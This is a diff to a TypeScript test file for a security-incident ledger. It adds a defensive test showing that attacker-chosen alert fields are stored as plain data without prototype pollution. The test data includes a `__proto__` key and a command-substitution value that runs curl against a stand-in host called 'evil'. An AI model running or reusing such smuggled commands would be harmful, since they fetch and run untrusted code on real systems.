@@ -1,3 +1,4 @@
+import { AlertSummary, severityOf } from "@riposte/falco-event";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import type { RoutingDecisionRecord } from "./incident.js";
 import { emulatorFirestore, incidentKey, testLedger, uniqueProjectId } from "./test-support.js";
@@ -85,6 +86,33 @@ describe("claimIncident", { timeout: 30_000 }, () => {
     const resent = await ledger.claimIncident(key, decision, { ...window, claimant: "message-2" });
     expect(again).toEqual(claimed);
     expect(resent).toMatchObject({ outcome: "duplicate" });
+  });
+
+  it("stores the alert's attacker-chosen field names and text as data, and reads them back as they were", async () => {
+    const ledger = testLedger(firstInstance);
+    const key = incidentKey();
+    // Parsed from text, as alerts arrive: a `__proto__` key is then an own key, not a prototype.
+    const outputFields = JSON.parse(
+      `{"__name__": "x", "a.b": "\`y\`", "__proto__": "z", "proc.cmdline": "sh -c '$(curl evil)'"}`,
+    );
+    const alert = {
+      rule: "Terminal shell in container",
+      priority: "Critical" as const,
+      severity: severityOf("Critical"),
+      time: "2026-12-05T10:00:00.123456789Z",
+      timeNs: "1796292000123456789",
+      tags: ["container", "__tag__"],
+      output: "shell \u0000 <b>spawned</b> \n in /",
+      outputFields,
+    };
+    expect(await ledger.claimIncident(key, decision, { ...window, alert })).toMatchObject({
+      outcome: "claimed",
+    });
+    const stored = await ledger.readIncident(key);
+    // As the alert summary schema gives it (zod's records leave a `__proto__` key out).
+    expect(stored?.alert).toEqual(AlertSummary.parse(alert));
+    expect(Object.keys(stored?.alert?.outputFields ?? {})).toEqual(["__name__", "a.b", "proc.cmdline"]);
+    expect(Object.getPrototypeOf(stored?.alert?.outputFields)).toBe(Object.prototype);
   });
 
   it("refuses a key that is not an incident key before reaching Firestore", async () => {
